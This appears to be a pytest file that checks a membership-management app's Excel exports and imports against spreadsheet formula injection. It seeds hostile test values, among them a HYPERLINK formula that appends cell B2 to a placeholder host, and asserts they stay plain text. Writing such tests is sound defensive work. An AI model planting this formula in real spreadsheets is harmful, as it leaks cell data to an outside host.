"""A name, a post or a unit that starts like a formula is data: every workbook the app writes
keeps it as text (no <f> element anywhere), and importing the workbook keeps it as text."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.__main__ import main
from app.domain import clock
from app.domain.vocabulary import OrgKind, PostKind
from app.store.database import Database
from app.store.models import Member, Organization, PostHolding

HOSTILE_NAME = '=HYPERLINK("http://x.invalid/?"&B2,"Bấm vào đây")'
HOSTILE_POST = "+84 912 345 678"
HOSTILE_UNIT = "-Chi bộ bản Thử"
HOSTILE_PLACE = "@SUM(1+1)"


def _sheets(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml"
        }


def _texts(path: Path) -> set[str]:
    """Every text cell of the workbook, as Excel reads it: a formula would not be a text."""
    workbook = load_workbook(path, read_only=True)
    try:
        return {
            cell.value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "s" and isinstance(cell.value, str)
        }
    finally:
        workbook.close()


@pytest.fixture
def hostile_db(full_demo_path: Path) -> Path:
    with Database.open(full_demo_path) as db, db.session() as session, session.begin():
        holder = session.scalars(
            select(PostHolding).where(PostHolding.kind == PostKind.PARTY).order_by(PostHolding.id)
        ).first()
        assert holder is not None
        member = session.get(Member, holder.member_id)
        assert member is not None
        member.full_name = HOSTILE_NAME
        holder.title = HOSTILE_POST
        cell = session.scalars(
            select(Organization).where(Organization.kind == OrgKind.CELL).order_by(Organization.id)
        ).first()
        assert cell is not None
        cell.name = HOSTILE_UNIT
        cell.place_name = HOSTILE_PLACE
    return full_demo_path


def test_no_workbook_the_app_writes_runs_a_formula_from_user_data(
    hostile_db: Path, tmp_path: Path
) -> None:
    year = clock.today().year - 1
    members, results, summary = (tmp_path / f"{n}.xlsx" for n in ("dv", "kq", "th"))
    db = ("--db", str(hostile_db))
    assert main(["export", "members", str(members), *db]) == 0
    assert main(["export", "results", str(results), "--year", str(year), *db]) == 0
    assert main(["summary", "--year", str(year), "--format", "xlsx", "-o", str(summary), *db]) == 0
    for path in (members, results, summary):
        xml = _sheets(path)
        assert not any("<f>" in part or "<f " in part for part in xml.values()), path.name
    written = _texts(members)
    for text in (HOSTILE_NAME, HOSTILE_POST, HOSTILE_UNIT, HOSTILE_PLACE):
        assert text in written, text  # there, and as text
    assert HOSTILE_UNIT in _texts(summary) and HOSTILE_NAME in _texts(results)

    # Read back, the workbook changes nothing: the texts were kept as texts.
    assert main(["import", "members", str(members), *db]) == 0
    with Database.open(hostile_db) as database, database.session() as session:
        names = set(session.scalars(select(Member.full_name)))
        units = set(session.scalars(select(Organization.name)))
    assert HOSTILE_NAME in names and HOSTILE_UNIT in units
